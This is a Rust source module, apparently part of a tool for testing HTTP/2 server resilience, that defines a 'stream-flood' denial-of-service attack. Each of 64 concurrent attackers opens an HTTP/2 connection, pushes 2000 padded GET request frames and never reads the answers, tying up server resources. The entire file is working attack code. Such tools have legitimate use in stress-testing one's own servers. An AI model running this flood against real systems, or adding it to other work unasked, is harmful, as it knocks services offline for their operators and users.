//! Sends requests on HTTP/2 connections, and reads no answer.

use super::{Attack, WITH_HTTP2};
use crate::{aim::Aim, frames};
use anyhow::Result;
use futures::FutureExt as _;
use tokio::io::AsyncWriteExt;

pub(super) const ATTACK: Attack = Attack {
    name: "stream-flood",
    about: "Sends requests on HTTP/2 connections, and reads no answer",
    targets: WITH_HTTP2,
    attackers: 64,
    leaves_answers: true,
    other_honest: None,
    once: |aim| once(aim).boxed(),
};

async fn once(aim: Aim) -> Result<()> {
    let mut stream = aim.connect_http2(&[]).await?;
    for n in 0..2000 {
        stream.write_all(&frames::get_with(2 * n + 1, "x-padding", &"y".repeat(126))).await?;
    }
    aim.ignore(stream).await;
    Ok(())
}
